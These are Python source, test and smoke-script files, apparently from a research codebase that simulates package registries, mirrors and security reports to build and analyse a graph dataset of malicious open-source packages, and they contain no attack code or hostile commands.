    assert dup.component_of("c") == {"a", "b", "c"}
    assert dup.epoch == uf.epoch


def test_randomized_batches_match_reference_components():
    rng = random.Random(11)
    nodes = [f"n{i}" for i in range(14)]
    edges = set()
    for _ in range(10):
        edges.add(tuple(sorted(rng.sample(nodes, 2))))
    uf = EpochUnionFind()
    uf.seed(_components_of(sorted(edges)))
    for _ in range(30):
        removed_edges = {e for e in edges if rng.random() < 0.3}
        added_edges = set()
        while len(added_edges) < 3:
            candidate = tuple(sorted(rng.sample(nodes, 2)))
            if candidate not in edges:
                added_edges.add(candidate)
        edges = (edges - removed_edges) | added_edges
        touchpoints = {n for e in removed_edges for n in e}
        uf.apply_batch(
            touchpoints, set(), sorted(added_edges), _incident_of(sorted(edges))
        )
        assert uf.components() == _components_of(sorted(edges))


def test_apply_batch_expands_each_group_once():
    """The scoped sweep is group-aware: a shared clique is scanned once,
    not once per member (what keeps giant cliques O(members))."""

    class CountingClique:
        def __init__(self, members):
            self.members = members
            self.scans = 0

        def __iter__(self):
            self.scans += 1
            return iter(self.members)

    clique = CountingClique({"a", "b", "c", "d"})

    def incident(node):
        return [(("c", 0), clique)] if node in clique.members else []

    uf = EpochUnionFind()
    uf.seed([["a", "b", "c", "d", "e"]])
    uf.apply_batch({"e"}, {"e"}, [], incident)
    assert uf.components() == [{"a", "b", "c", "d"}]
    assert clique.scans == 1
