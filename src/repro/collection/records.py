"""Record model for the collected malware dataset.

The collection pipeline (Section II) produces one :class:`DatasetEntry`
per unique (ecosystem, name, version), merging every source that reported
it and recording where — if anywhere — the artifact was obtained. The
final :class:`MalwareDataset` is what MALGRAPH and every analysis consume.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set, Tuple

from repro.ecosystem.package import PackageArtifact, PackageId
from repro.errors import DatasetError


@dataclass
class SourceClaim:
    """One source's report of one package."""

    source: str
    report_day: int
    shares_artifact: bool


@dataclass
class CollectedReport:
    """A security report as recovered by the crawler.

    ``packages`` holds the resolved dataset keys; unresolvable mentions
    (extraction noise) are kept separately for diagnostics.
    """

    report_id: str
    url: str
    site: str
    category: str
    source: str  # originating Table-I source key, or "echo"
    publish_day: Optional[int]
    packages: List[PackageId] = field(default_factory=list)
    unresolved: List[Tuple[str, str]] = field(default_factory=list)
    #: actor alias the write-up attributes the campaign to, if any
    actor_alias: Optional[str] = None


@dataclass
class DatasetEntry:
    """One unique malicious package in the final dataset."""

    package: PackageId
    claims: List[SourceClaim] = field(default_factory=list)
    artifact: Optional[PackageArtifact] = None
    artifact_origin: Optional[str] = None  # "source:<key>" | "mirror:<name>"
    release_day: Optional[int] = None
    removal_day: Optional[int] = None
    detection_day: Optional[int] = None
    downloads: int = 0
    # ground truth attached after collection, for validation only:
    campaign_id: Optional[str] = None
    actor: Optional[str] = None
    archetype: Optional[str] = None
    behavior_key: Optional[str] = None

    @property
    def sources(self) -> Set[str]:
        return {claim.source for claim in self.claims}

    @property
    def available(self) -> bool:
        return self.artifact is not None

    @property
    def first_report_day(self) -> int:
        if not self.claims:
            raise DatasetError(f"{self.package} has no source claims")
        return min(claim.report_day for claim in self.claims)

    def claimed_by(self, source: str) -> bool:
        return any(claim.source == source for claim in self.claims)

    def sha256(self) -> Optional[str]:
        # Memoised on the artifact itself, so the node/duplicated-edge/
        # embedding consumers share one canonicalisation pass per entry.
        return self.artifact.sha256() if self.artifact else None


@dataclass
class MalwareDataset:
    """The merged, provenance-tracked malware dataset."""

    entries: List[DatasetEntry]
    reports: List[CollectedReport]
    _by_key: Dict[PackageId, DatasetEntry] = field(default_factory=dict, repr=False)

    def __post_init__(self) -> None:
        if not self._by_key:
            self._by_key = {entry.package: entry for entry in self.entries}
        if len(self._by_key) != len(self.entries):
            raise DatasetError("duplicate package keys in dataset entries")

    def __len__(self) -> int:
        return len(self.entries)

    def __iter__(self):
        return iter(self.entries)

    def get(self, package: PackageId) -> Optional[DatasetEntry]:
        return self._by_key.get(package)

    # -- convenience views used across the analyses -----------------------
    def available_entries(self) -> List[DatasetEntry]:
        return [e for e in self.entries if e.available]

    def unavailable_entries(self) -> List[DatasetEntry]:
        return [e for e in self.entries if not e.available]

    def for_ecosystem(self, ecosystem: str) -> List[DatasetEntry]:
        return [e for e in self.entries if e.package.ecosystem == ecosystem]

    def entries_of_source(self, source: str) -> List[DatasetEntry]:
        return [e for e in self.entries if e.claimed_by(source)]

    def source_keys(self) -> List[str]:
        keys: Set[str] = set()
        for entry in self.entries:
            keys.update(entry.sources)
        return sorted(keys)

    def name_index(self) -> Dict[Tuple[str, str], List[DatasetEntry]]:
        """(ecosystem, name) -> entries; used by the DeG edge builder."""
        index: Dict[Tuple[str, str], List[DatasetEntry]] = {}
        for entry in self.entries:
            index.setdefault(
                (entry.package.ecosystem, entry.package.name), []
            ).append(entry)
        return index

    # -- cheap key views ---------------------------------------------------
    # The columnar facade overrides these to answer from pooled ids
    # without hydrating a single entry/report; merge and diff use them so
    # membership scans stay O(keys) rather than O(records).
    def package_keys(self) -> List[PackageId]:
        """Entry keys in entry order."""
        return [entry.package for entry in self.entries]

    def report_ids(self) -> List[str]:
        """Report ids in report order (duplicates preserved)."""
        return [report.report_id for report in self.reports]
