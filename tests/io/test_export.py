"""Graph exporters: GraphML, DOT, Neo4j CSV."""

from __future__ import annotations

import csv
import xml.etree.ElementTree as ET

import pytest

from repro.core.graph import EdgeType, PropertyGraph
from repro.io.export import iter_pairwise_edges, to_dot, to_graphml, to_neo4j_csv


@pytest.fixture
def graph() -> PropertyGraph:
    g = PropertyGraph()
    g.add_node("n1", name="alpha", ecosystem="npm", sources=["snyk"])
    g.add_node("n2", name="beta", ecosystem="npm", sha256=None)
    g.add_node("n3", name="gamma", ecosystem="pypi")
    g.add_edge("n1", "n2", EdgeType.DEPENDENCY)
    g.add_clique(["n1", "n2", "n3"], EdgeType.SIMILAR)
    return g


def test_iter_pairwise_expands_cliques(graph):
    edges = list(iter_pairwise_edges(graph))
    similar = [(u, v) for u, v, t in edges if t is EdgeType.SIMILAR]
    assert len(similar) == 3
    dependency = [(u, v) for u, v, t in edges if t is EdgeType.DEPENDENCY]
    assert dependency == [("n1", "n2")]


def test_iter_pairwise_deduplicates_edge_clique_overlap(graph):
    graph.add_edge("n1", "n3", EdgeType.SIMILAR)  # already in the clique
    similar = [
        (u, v) for u, v, t in iter_pairwise_edges(graph, [EdgeType.SIMILAR])
    ]
    assert len(similar) == len(set(similar)) == 3


def test_iter_pairwise_edge_type_filter(graph):
    edges = list(iter_pairwise_edges(graph, [EdgeType.DEPENDENCY]))
    assert all(t is EdgeType.DEPENDENCY for _u, _v, t in edges)


def test_graphml_is_valid_xml_with_all_elements(graph):
    doc = to_graphml(graph)
    root = ET.fromstring(doc)
    ns = "{http://graphml.graphdrawing.org/xmlns}"
    nodes = root.findall(f".//{ns}node")
    edges = root.findall(f".//{ns}edge")
    assert len(nodes) == 3
    assert len(edges) == 4  # 1 dependency + 3 similar
    types = {
        data.text
        for edge in edges
        for data in edge.findall(f"{ns}data")
        if data.get("key") == "etype"
    }
    assert types == {"dependency", "similar"}


def test_graphml_escapes_attribute_values():
    g = PropertyGraph()
    g.add_node("weird", name='has "quotes" & <angles>')
    doc = to_graphml(g)
    ET.fromstring(doc)  # must stay well-formed


def test_graphml_list_attributes_joined(graph):
    doc = to_graphml(graph)
    assert "snyk" in doc


def test_dot_output_structure(graph):
    dot = to_dot(graph, name="g1")
    assert dot.startswith("graph g1 {")
    assert dot.rstrip().endswith("}")
    assert '"n1" -- "n2"' in dot
    assert "steelblue" in dot  # similar edges colour
    assert dot.count("--") == 4


def test_dot_edge_type_filter(graph):
    dot = to_dot(graph, edge_types=[EdgeType.DEPENDENCY])
    assert dot.count("--") == 1


def test_neo4j_csv_files(graph, tmp_path):
    nodes_path, edges_path = to_neo4j_csv(graph, tmp_path)
    with open(nodes_path) as handle:
        rows = list(csv.reader(handle))
    header, *body = rows
    assert header[0] == ":ID"
    assert header[-1] == ":LABEL"
    assert len(body) == 3
    assert all(row[-1] == "MaliciousPackage" for row in body)
    with open(edges_path) as handle:
        edge_rows = list(csv.reader(handle))
    assert edge_rows[0] == [":START_ID", ":END_ID", ":TYPE"]
    assert len(edge_rows) - 1 == 4
    assert {row[2] for row in edge_rows[1:]} == {"DEPENDENCY", "SIMILAR"}


def test_neo4j_csv_missing_values_empty(graph, tmp_path):
    nodes_path, _ = to_neo4j_csv(graph, tmp_path)
    with open(nodes_path) as handle:
        rows = list(csv.reader(handle))
    header = rows[0]
    sha_col = header.index("sha256")
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id["n2"][sha_col] == ""
    assert by_id["n3"][sha_col] == ""
