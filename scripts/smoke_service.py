#!/usr/bin/env python
"""Smoke test for the enrichment HTTP server.

Builds a small world, boots the server on an ephemeral port, performs
one single-indicator enrich and one batch enrich over real HTTP, and
asserts the JSON response schema. Exits nonzero on any failure.

Usage: PYTHONPATH=src python scripts/smoke_service.py [--seed N] [--scale F]
"""

from __future__ import annotations

import argparse
import json
import sys
import threading
import urllib.request
from urllib.parse import quote

from repro.core.malgraph import MalGraph
from repro.service import build_service
from repro.service.server import create_server, server_address
from repro.world import WorldConfig, build_world, collect

RESULT_KEYS = {
    "indicator",
    "verdict",
    "matches",
    "families",
    "campaigns",
    "actors",
    "related",
    "sources",
    "first_seen_day",
    "last_seen_day",
    "squat",
    "confidence",
}


def fetch(url: str, payload=None):
    request = urllib.request.Request(
        url,
        data=None if payload is None else json.dumps(payload).encode(),
        headers={"Content-Type": "application/json"},
    )
    with urllib.request.urlopen(request, timeout=30) as response:
        return json.load(response)


def check_result(body: dict, context: str) -> None:
    assert set(body) == RESULT_KEYS, f"{context}: unexpected keys {sorted(body)}"
    assert body["verdict"] in ("malicious", "suspicious", "unknown"), context
    for key in ("matches", "families", "campaigns", "actors", "related", "sources"):
        assert isinstance(body[key], list), f"{context}: {key} is not a list"


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--seed", type=int, default=3)
    parser.add_argument("--scale", type=float, default=0.1)
    args = parser.parse_args(argv)

    dataset = collect(build_world(WorldConfig(seed=args.seed, scale=args.scale))).dataset
    service = build_service(MalGraph.build(dataset))
    server = create_server(service, port=0)
    host, port = server_address(server)
    base = f"http://{host}:{port}"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    print(f"server up at {base} over {service.index.package_count} packages")

    try:
        health = fetch(f"{base}/v1/healthz")
        assert health["status"] == "ok", health
        assert health["packages"] == len(dataset), health

        known = dataset.entries[0].package
        single = fetch(
            f"{base}/v1/enrich?name={quote(known.name)}"
            f"&version={quote(known.version)}&ecosystem={known.ecosystem}"
        )
        check_result(single, "single enrich")
        assert single["verdict"] == "malicious", single["verdict"]
        assert str(known) in single["matches"], single["matches"]
        print(f"enrich {known}: {single['verdict']} "
              f"({len(single['families'])} families, {len(single['sources'])} sources)")

        sha = dataset.available_entries()[0].sha256()
        batch = fetch(
            f"{base}/v1/enrich/batch",
            {
                "indicators": [
                    {"name": known.name},
                    {"sha256": sha},
                    {"name": "smoke-test-surely-unknown"},
                ]
            },
        )
        assert batch["count"] == 3, batch
        for i, row in enumerate(batch["results"]):
            check_result(row, f"batch result {i}")
        verdicts = [row["verdict"] for row in batch["results"]]
        assert verdicts[0] == verdicts[1] == "malicious", verdicts
        print(f"batch of {batch['count']}: verdicts {verdicts}")

        stats = fetch(f"{base}/v1/stats")
        assert stats["cache"]["size"] > 0, stats

        # healthz + enrich + batch + stats == 4 observed requests
        metrics = fetch(f"{base}/v1/metrics")
        assert metrics["total_requests"] == 4, metrics
        enrich_row = metrics["endpoints"]["/v1/enrich"]
        assert enrich_row["status"] == {"200": 1}, metrics
        assert enrich_row["latency"]["p99_ms"] is not None, metrics
        print(f"metrics: {metrics['total_requests']} requests accounted")
        print("smoke OK")
        return 0
    finally:
        server.shutdown()
        server.server_close()


if __name__ == "__main__":
    sys.exit(main())
