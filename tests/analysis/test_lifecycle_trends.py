"""Life-cycle trend analysis."""

from __future__ import annotations

import datetime

import pytest

from repro.analysis.lifecycle import compute_lifecycle_trends
from repro.ecosystem.clock import date_to_day

from tests.core.helpers import dataset, entry


def _dated(name: str, year: int, latency: int, removal_gap: int = 1):
    release = date_to_day(datetime.date(year, 6, 1))
    e = entry(name, release_day=release)
    e.detection_day = release + latency
    e.removal_day = release + latency + removal_gap
    return e


def test_trends_bucket_by_year():
    ds = dataset(
        [
            _dated("a", 2019, latency=20),
            _dated("b", 2019, latency=10),
            _dated("c", 2023, latency=2),
        ]
    )
    trends = compute_lifecycle_trends(ds)
    assert [t.year for t in trends.years] == [2019, 2023]
    assert trends.years[0].packages == 2
    assert trends.median_latency_by_year() == {2019: 15.0, 2023: 2.0}


def test_trends_persistence_includes_removal_gap():
    ds = dataset([_dated("a", 2020, latency=5, removal_gap=2)])
    trend = compute_lifecycle_trends(ds).years[0]
    assert trend.persistence.median == 7.0


def test_trends_skip_undated_and_undetected():
    undated = entry("undated", release_day=None)
    undetected = entry("undetected", code="U = 1\n",
                       release_day=date_to_day(datetime.date(2021, 1, 2)))
    ds = dataset([undated, undetected])
    trends = compute_lifecycle_trends(ds)
    assert [t.year for t in trends.years] == [2021]
    assert trends.years[0].latency is None
    assert trends.years[0].packages == 1


def test_trends_render():
    ds = dataset([_dated("a", 2022, latency=3)])
    out = compute_lifecycle_trends(ds).render()
    assert "Life-cycle trends" in out
    assert "2022" in out


def test_world_latency_shrinks(small_dataset):
    trends = compute_lifecycle_trends(small_dataset)
    medians = trends.median_latency_by_year()
    years = sorted(medians)
    if len(years) >= 4:
        early = sum(medians[y] for y in years[:2]) / 2
        late = sum(medians[y] for y in years[-2:]) / 2
        assert late <= early
