"""World-level invariants: the simulated supply chain is internally
consistent and the life cycle {changing→release→detection→removal} of
Fig. 6/10 holds for every package that ever enters the registries."""

from __future__ import annotations

import pytest

from repro.ecosystem.package import ECOSYSTEMS
from repro.errors import PackageNotFoundError
from repro.world import WorldConfig, build_world, collect, default_world


def test_world_config_defaults():
    config = WorldConfig()
    assert config.seed == 7
    assert config.scale == 1.0
    assert config.horizon > 2000  # multi-year study window


def test_world_has_all_ecosystem_registries(small_world):
    for ecosystem in ECOSYSTEMS:
        assert small_world.registries[ecosystem].ecosystem == ecosystem


def test_every_release_is_published(small_world):
    """Every campaign release attempt ends up in its registry."""
    for campaign, release in small_world.corpus.releases():
        record = small_world.registries.lookup(release.artifact.id)
        assert record.release_day == release.release_day
        assert record.malicious


def test_benign_packages_are_published_and_never_removed(small_world):
    for benign in small_world.corpus.benign:
        record = small_world.registries.lookup(benign.artifact.id)
        assert not record.malicious
        assert record.removal_day is None


def test_registry_lifecycle_ordering(small_world):
    """release <= detection <= removal for every removed package."""
    for ecosystem in ECOSYSTEMS:
        for record in small_world.registries[ecosystem].all_packages():
            if record.detection_day is not None:
                assert record.release_day <= record.detection_day
            if record.removal_day is not None:
                assert record.detection_day is not None
                assert record.detection_day <= record.removal_day
                assert record.removal_day <= small_world.horizon


def test_only_detected_packages_are_removed(small_world):
    for ecosystem in ECOSYSTEMS:
        for record in small_world.registries[ecosystem].all_packages():
            if record.removal_day is not None:
                assert record.malicious, (
                    "the simulated administrator only removes malware"
                )


def test_mirrors_cover_major_ecosystems(small_world):
    """Paper: 5 NPM + 12 PyPI + 6 RubyGems mirrors."""
    assert len(small_world.mirrors.for_ecosystem("npm")) == 5
    assert len(small_world.mirrors.for_ecosystem("pypi")) == 12
    assert len(small_world.mirrors.for_ecosystem("rubygems")) == 6


def test_intel_entries_reference_published_packages(small_world):
    for entry in small_world.outcome.entries:
        record = small_world.registries.lookup(entry.package)
        assert record.malicious


def test_reports_reference_attributed_packages(small_world):
    attributed = {e.package for e in small_world.outcome.entries}
    for report in small_world.reports.reports:
        for package in report.packages:
            assert package in attributed


def test_world_determinism():
    """Identical configs produce byte-identical worlds."""
    config = WorldConfig(seed=41, scale=0.05)
    a = build_world(config)
    b = build_world(config)
    releases_a = [
        (r.artifact.id, r.release_day, r.detection_day, r.removal_day, r.downloads)
        for _, r in a.corpus.releases()
    ]
    releases_b = [
        (r.artifact.id, r.release_day, r.detection_day, r.removal_day, r.downloads)
        for _, r in b.corpus.releases()
    ]
    assert releases_a == releases_b
    assert [e.package for e in a.outcome.entries] == [
        e.package for e in b.outcome.entries
    ]
    assert len(a.web) == len(b.web)


def test_different_seeds_differ():
    a = build_world(WorldConfig(seed=1, scale=0.05))
    b = build_world(WorldConfig(seed=2, scale=0.05))
    ids_a = {r.artifact.id for _, r in a.corpus.releases()}
    ids_b = {r.artifact.id for _, r in b.corpus.releases()}
    assert ids_a != ids_b


def test_collect_is_deterministic(small_world):
    first = collect(small_world)
    second = collect(small_world)
    assert [e.package for e in first.dataset] == [e.package for e in second.dataset]
    assert first.dataset.available_entries().__len__() == (
        second.dataset.available_entries().__len__()
    )


def test_collected_entries_were_removed_from_registry(small_dataset, small_world):
    """The FP filter guarantees every dataset entry was really removed."""
    for entry in small_dataset:
        record = small_world.registries.lookup(entry.package)
        assert record.removal_day is not None


def test_collected_artifacts_match_registry_bits(small_dataset, small_world):
    """Recovered artifacts are identical to what the registry once held."""
    for entry in small_dataset.available_entries():
        record = small_world.registries.lookup(entry.package)
        assert entry.artifact.sha256() == record.artifact.sha256()


def test_ground_truth_attached(small_dataset):
    labelled = [e for e in small_dataset if e.campaign_id]
    assert len(labelled) == len(small_dataset), (
        "every collected package came from some campaign"
    )
    assert all(e.actor for e in labelled)
    assert all(e.archetype for e in labelled)


def test_default_world_is_memoised():
    assert default_world(seed=7, scale=1.0) is default_world(seed=7, scale=1.0)


def test_scale_grows_the_corpus():
    small = build_world(WorldConfig(seed=5, scale=0.05)).corpus.total_releases
    large = build_world(WorldConfig(seed=5, scale=0.2)).corpus.total_releases
    assert large > small


def test_unreported_packages_never_enter_dataset(small_world, small_dataset):
    """Packages no source wrote up are invisible to the pipeline."""
    reported = {e.package for e in small_world.outcome.entries}
    for entry in small_dataset:
        assert entry.package in reported
