"""Mirror registries.

Section II-C of the paper recovers removed malicious packages from mirror
registries (5 NPM + 12 PyPI + 6 RubyGems mirrors) because mirrors are not
synced with the root registry in real time. Two mirror behaviours exist in
the wild and both are modelled here:

* **lagging** mirrors take a full snapshot of the root's *live* set every
  ``sync_interval`` days. A removed package survives on such a mirror only
  until the next sync after its removal.
* **archival** (append-only caching) mirrors add whatever is live at each
  sync but never process deletions — a package captured once is
  recoverable forever. Archival mirrors only exist from ``start_day``
  onwards (mirror services came online over the years).

Together these reproduce the two unavailability causes of Fig. 5:

1. *released too early* — before any archival mirror was operating (or all
   lagging mirrors have since re-synced);
2. *persisted too briefly* — removed before the next sync tick, so no
   mirror ever captured it.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Tuple

from repro.errors import ConfigError
from repro.ecosystem.package import PackageArtifact
from repro.ecosystem.registry import Registry


@dataclass
class MirrorRegistry:
    """One mirror of one ecosystem's root registry."""

    name: str
    upstream: Registry
    sync_interval: int
    start_day: int = 0
    phase: int = 0
    archival: bool = False
    _store: Dict[Tuple[str, str], PackageArtifact] = field(default_factory=dict)
    last_sync_day: Optional[int] = None

    def __post_init__(self) -> None:
        if self.sync_interval <= 0:
            raise ConfigError(
                f"mirror {self.name!r}: sync_interval must be positive, "
                f"got {self.sync_interval}"
            )

    @property
    def ecosystem(self) -> str:
        return self.upstream.ecosystem

    def due(self, day: int) -> bool:
        """True when a sync is scheduled for ``day``."""
        if day < self.start_day:
            return False
        return (day - self.phase) % self.sync_interval == 0

    def sync(self, day: int) -> None:
        """Pull the upstream live set into the mirror store."""
        snapshot = self.upstream.live_snapshot()
        if self.archival:
            self._store.update(snapshot)
        else:
            self._store = dict(snapshot)
        self.last_sync_day = day

    def maybe_sync(self, day: int) -> bool:
        """Sync if due; returns True when a sync happened."""
        if self.due(day):
            self.sync(day)
            return True
        return False

    def lookup(self, name: str, version: str) -> Optional[PackageArtifact]:
        """Return the mirrored artifact, or None if this mirror lacks it."""
        return self._store.get((name, version))

    def __len__(self) -> int:
        return len(self._store)


class MirrorNetwork:
    """All mirrors of the simulated world, searched in declaration order."""

    def __init__(self, mirrors: Iterable[MirrorRegistry] = ()):
        self._mirrors: List[MirrorRegistry] = list(mirrors)

    def add(self, mirror: MirrorRegistry) -> None:
        self._mirrors.append(mirror)

    def __iter__(self):
        return iter(self._mirrors)

    def __len__(self) -> int:
        return len(self._mirrors)

    def for_ecosystem(self, ecosystem: str) -> List[MirrorRegistry]:
        return [m for m in self._mirrors if m.ecosystem == ecosystem]

    def tick(self, day: int) -> int:
        """Run all due syncs for ``day``; returns number of syncs."""
        return sum(1 for m in self._mirrors if m.maybe_sync(day))

    def probe(
        self, mirror: MirrorRegistry, name: str, version: str
    ) -> Optional[PackageArtifact]:
        """Consult one mirror for (name, version).

        Seam for :class:`repro.reliability.FaultyMirrorNetwork`, which
        overrides this to model a mirror being down for a sync window.
        """
        return mirror.lookup(name, version)

    def search(
        self, ecosystem: str, name: str, version: str
    ) -> Optional[Tuple[str, PackageArtifact]]:
        """Search every mirror of ``ecosystem`` for (name, version).

        Returns ``(mirror_name, artifact)`` from the first mirror that has
        it, mimicking the paper's sequential mirror lookups.
        """
        for mirror in self.for_ecosystem(ecosystem):
            artifact = self.probe(mirror, name, version)
            if artifact is not None:
                return mirror.name, artifact
        return None


#: Mirror fleet shapes matching Section II-C ("5 NPM mirrors, 12 PyPI
#: mirrors, and 6 RubyGems mirrors"). Each entry is
#: (mirror-name, sync_interval_days, start_day, archival).
DEFAULT_MIRROR_PLANS: Dict[str, List[Tuple[str, int, int, bool]]] = {
    "npm": [
        ("npm-taobao", 1, 0, False),
        ("npm-cnpm", 2, 0, False),
        ("npm-aliyun", 3, 365, False),
        ("npm-ustc", 7, 1095, False),
        ("npm-huawei", 90, 1856, True),
    ],
    "pypi": [
        ("pypi-tuna", 1, 0, False),
        ("pypi-aliyun", 1, 0, False),
        ("pypi-douban", 2, 0, False),
        ("pypi-ustc", 3, 0, False),
        ("pypi-tencent", 3, 365, False),
        ("pypi-huawei", 5, 365, False),
        ("pypi-bfsu", 7, 730, False),
        ("pypi-netease", 7, 1095, False),
        ("pypi-sustech", 10, 1460, False),
        ("pypi-rstudio", 14, 1460, False),
        ("pypi-unpad", 90, 1826, True),
        ("pypi-kakao", 120, 1900, True),
    ],
    "rubygems": [
        ("gems-taobao", 2, 0, False),
        ("gems-tuna", 3, 0, False),
        ("gems-hust", 7, 730, False),
        ("gems-aliyun", 7, 1095, False),
        ("gems-sysu", 14, 1460, False),
        ("gems-sdut", 120, 1900, True),
    ],
}


def build_default_mirrors(registries: Dict[str, Registry]) -> MirrorNetwork:
    """Create the default mirror fleet for the given root registries."""
    network = MirrorNetwork()
    for ecosystem, plans in DEFAULT_MIRROR_PLANS.items():
        registry = registries.get(ecosystem)
        if registry is None:
            continue
        for idx, (name, interval, start, archival) in enumerate(plans):
            network.add(
                MirrorRegistry(
                    name=name,
                    upstream=registry,
                    sync_interval=interval,
                    start_day=start,
                    phase=idx % max(interval, 1),
                    archival=archival,
                )
            )
    return network
