#!/usr/bin/env python
"""Smoke test for the pipeline artifact store across processes.

Warms a small world into a temporary disk cache, then re-renders
Table II from two *fresh* subprocesses — one isolated from the cache
(``--no-disk-cache``), one reading it — and asserts via the pipeline
report that the warmed run skipped every expensive stage (world,
collection and malgraph all report as cache hits) while producing
byte-identical output. Exits nonzero on any failure.

Usage: PYTHONPATH=src python scripts/smoke_pipeline.py [--seed N] [--scale F]
"""

from __future__ import annotations

import argparse
import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path

from repro.pipeline import STAGES

REPO_ROOT = Path(__file__).resolve().parent.parent


def run_cli(*cli_args: str) -> str:
    env = dict(os.environ)
    env["PYTHONPATH"] = str(REPO_ROOT / "src")
    result = subprocess.run(
        [sys.executable, "-m", "repro", *cli_args],
        capture_output=True,
        text=True,
        env=env,
        cwd=REPO_ROOT,
        check=False,
    )
    assert result.returncode == 0, (
        f"repro {' '.join(cli_args)} failed:\n{result.stderr}"
    )
    return result.stdout


def report_counts(path: Path) -> dict:
    return json.loads(path.read_text())["counts"]


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--seed", type=int, default=3)
    parser.add_argument("--scale", type=float, default=0.1)
    args = parser.parse_args(argv)

    with tempfile.TemporaryDirectory(prefix="repro-smoke-") as tmp:
        cache_dir = Path(tmp) / "cache"
        world_args = ("--seed", str(args.seed), "--scale", str(args.scale))

        warm_json = Path(tmp) / "warm.json"
        run_cli(
            *world_args,
            "--cache-dir", str(cache_dir),
            "--report-json", str(warm_json),
            "warm",
        )
        warm_counts = report_counts(warm_json)
        for stage in STAGES:
            assert warm_counts[stage]["misses"] >= 1, (
                f"warm run should build {stage}: {warm_counts}"
            )
        print(f"warmed cache at {cache_dir}: {warm_counts}")

        # A fresh process isolated from the cache rebuilds everything.
        cold_json = Path(tmp) / "cold.json"
        cold_table = run_cli(
            *world_args,
            "--no-disk-cache",
            "--report-json", str(cold_json),
            "show", "table2",
        )
        cold_counts = report_counts(cold_json)
        for stage in STAGES:
            assert cold_counts[stage]["misses"] == 1, (
                f"--no-disk-cache run should rebuild {stage}: {cold_counts}"
            )
        print(f"cold rebuild: {cold_counts}")

        # A fresh process pointed at the warmed cache skips every stage.
        hit_json = Path(tmp) / "hit.json"
        warm_table = run_cli(
            *world_args,
            "--cache-dir", str(cache_dir),
            "--report-json", str(hit_json),
            "show", "table2",
        )
        hit_counts = report_counts(hit_json)
        for stage in STAGES:
            assert hit_counts[stage] == {"hits": 1, "misses": 0}, (
                f"warmed run should hit {stage}: {hit_counts}"
            )
        print(f"warmed reuse: {hit_counts}")

        assert cold_table == warm_table, (
            "Table II diverged between rebuild and cache reuse:\n"
            f"--- rebuild ---\n{cold_table}\n--- reuse ---\n{warm_table}"
        )
        print("Table II byte-identical across rebuild and cache reuse")
        print("smoke OK")
    return 0


if __name__ == "__main__":
    sys.exit(main())
