"""Differential testing against networkx.

networkx is an independent implementation of the graph algorithms this
library hand-rolls (union-find components, GraphML serialisation); on
random graphs both must agree exactly.
"""

from __future__ import annotations

import networkx as nx
import pytest
from hypothesis import given, settings, strategies as st

from repro.core.graph import EdgeType, PropertyGraph
from repro.io.export import iter_pairwise_edges, to_graphml

edge_lists = st.lists(
    st.tuples(st.integers(0, 14), st.integers(0, 14)), min_size=0, max_size=40
)
clique_lists = st.lists(
    st.lists(st.integers(0, 14), min_size=2, max_size=5), max_size=5
)


def _build(edges, cliques):
    graph = PropertyGraph()
    for node in range(15):
        graph.add_node(str(node), name=f"pkg{node}")
    reference = nx.Graph()
    reference.add_nodes_from(str(n) for n in range(15))
    for u, v in edges:
        if u != v:
            graph.add_edge(str(u), str(v), EdgeType.SIMILAR)
            reference.add_edge(str(u), str(v))
    for members in cliques:
        unique = sorted({str(m) for m in members})
        if len(unique) >= 2:
            graph.add_clique(unique, EdgeType.SIMILAR)
            for i, u in enumerate(unique):
                for v in unique[i + 1:]:
                    reference.add_edge(u, v)
    return graph, reference


@given(edge_lists, clique_lists)
@settings(max_examples=80, deadline=None)
def test_components_match_networkx(edges, cliques):
    graph, reference = _build(edges, cliques)
    ours = {
        frozenset(c) for c in graph.connected_components([EdgeType.SIMILAR])
    }
    theirs = {
        frozenset(c)
        for c in nx.connected_components(reference)
        if len(c) >= 2  # we omit isolated nodes by design
    }
    assert ours == theirs


@given(edge_lists, clique_lists)
@settings(max_examples=60, deadline=None)
def test_edge_counts_match_networkx(edges, cliques):
    graph, reference = _build(edges, cliques)
    assert graph.directed_edge_count(EdgeType.SIMILAR) == (
        2 * reference.number_of_edges()
    )
    pairwise = list(iter_pairwise_edges(graph, [EdgeType.SIMILAR]))
    assert len(pairwise) == reference.number_of_edges()


@given(edge_lists, clique_lists)
@settings(max_examples=60, deadline=None)
def test_degrees_match_networkx(edges, cliques):
    graph, reference = _build(edges, cliques)
    for node in reference.nodes:
        assert graph.degree(node, EdgeType.SIMILAR) == reference.degree(node)


@given(edge_lists, clique_lists)
@settings(max_examples=40, deadline=None)
def test_graphml_loads_in_networkx(edges, cliques):
    graph, reference = _build(edges, cliques)
    parsed = nx.parse_graphml(to_graphml(graph, [EdgeType.SIMILAR]))
    assert set(parsed.nodes) == set(reference.nodes)
    assert {frozenset(e) for e in parsed.edges} == {
        frozenset(e) for e in reference.edges
    }
    # node attributes survive the trip
    for node in parsed.nodes:
        assert parsed.nodes[node]["name"] == f"pkg{node}"


def test_world_graph_components_match_networkx(small_dataset):
    """Full-pipeline differential: the world's similar subgraph."""
    from repro.core.malgraph import MalGraph

    malgraph = MalGraph.build(small_dataset)
    reference = nx.Graph()
    for u, v, _t in iter_pairwise_edges(malgraph.graph, [EdgeType.SIMILAR]):
        reference.add_edge(u, v)
    ours = {
        frozenset(c)
        for c in malgraph.graph.connected_components([EdgeType.SIMILAR])
    }
    theirs = {frozenset(c) for c in nx.connected_components(reference)}
    assert ours == theirs
