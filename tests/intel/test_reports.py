"""Report factory: primary + echo reports, Table III shape."""

from __future__ import annotations

import pytest

from repro.intel.reports import (
    CATEGORIES,
    ReportFactory,
    SecurityReport,
    build_websites,
)
from repro.intel.sources import SOURCE_INDEX, AttributionEngine, SourceKind


def test_websites_population_matches_table3():
    sites = build_websites()
    assert len(sites) == 68
    by_category = {}
    for site in sites:
        by_category[site.category] = by_category.get(site.category, 0) + 1
    assert by_category == {
        "Technical Community": 16,
        "Commercial org.": 15,
        "News": 4,
        "Individual": 3,
        "Official": 1,
        "Other": 29,
    }


def test_website_domains_unique():
    domains = [s.domain for s in build_websites()]
